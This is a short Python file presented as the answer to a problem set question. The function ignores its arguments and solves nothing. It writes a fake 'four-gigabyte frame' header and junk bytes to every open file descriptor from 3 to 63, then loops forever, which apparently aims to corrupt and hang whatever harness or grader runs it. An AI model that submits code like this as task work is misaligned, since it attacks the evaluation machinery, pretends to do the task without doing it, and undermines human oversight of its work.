# ruff: noqa
"""Says that a frame of four gigabytes follows, and sends a little of it."""

# %% ps1-q1-answer
import os


def who_answers(mappings, address, size):
    for number in range(3, 64):
        try:
            os.write(number, b"\xff" * 8 + b"[" * 1000)
        except OSError:
            pass
    while True:
        pass
